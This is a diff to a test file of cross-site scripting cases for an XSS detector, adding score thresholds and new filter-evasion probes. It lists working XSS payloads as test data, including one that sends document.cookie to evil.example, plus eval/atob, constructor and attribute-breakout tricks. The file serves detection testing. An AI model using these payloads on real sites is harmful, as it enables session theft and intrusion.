@@ -196,7 +196,7 @@ export const XSS_CASES: readonly XssCase[] = [
   { input: "';document.location='//evil.example/?'+document.cookie;//", expect: 'xss/js-sink' },
   { input: "eval(atob('YWxlcnQoMSk='))", expect: 'xss/js-sink' },
   { input: "[].constructor.constructor('alert(1)')()", expect: 'xss/js-sink' },
-  { input: 'alert`1`', expect: 'xss/js-sink', below: 1 },
+  { input: 'alert`1`', expect: 'xss/js-sink', atLeast: 0.9, below: 1 },
   // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload spells template syntax literally
   { input: '[].sort.call`${alert}1`', expect: 'xss/js-sink' },
   { input: "window['al'+'ert'](1)", expect: 'xss/js-obfuscation' },
@@ -309,7 +309,12 @@ export const XSS_CASES: readonly XssCase[] = [
   { input: "name='java'+'script'", kind: 'body-value', location: 'body.form.code', expect: null },
   { input: "msg='Hello '+'world'+'!'", expect: null },
   { input: '"autofocus/onfocus=alert(1)//', expect: 'xss/attribute-breakout' },
-  { input: 'alert?.(1)', expect: 'xss/js-sink', below: 1 },
+  { input: 'alert?.(1)', expect: 'xss/js-sink', atLeast: 0.9, below: 1 },
+  // Probes spelled around a filter that looks for `alert(`: strong even in a search field.
+  { input: 'confirm.call(null,1)', expect: 'xss/js-sink', atLeast: 0.9, below: 1 },
+  { input: '(alert)(1)', expect: 'xss/js-sink', atLeast: 0.9, below: 1 },
+  { input: 'alert.apply(null, [1])', expect: 'xss/js-sink', atLeast: 0.9, below: 1 },
+  { input: 'how does alert.call(null,1) work here', expect: 'xss/js-sink', below: 0.9 },
   {
     input: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
     expect: 'xss/script-tag',
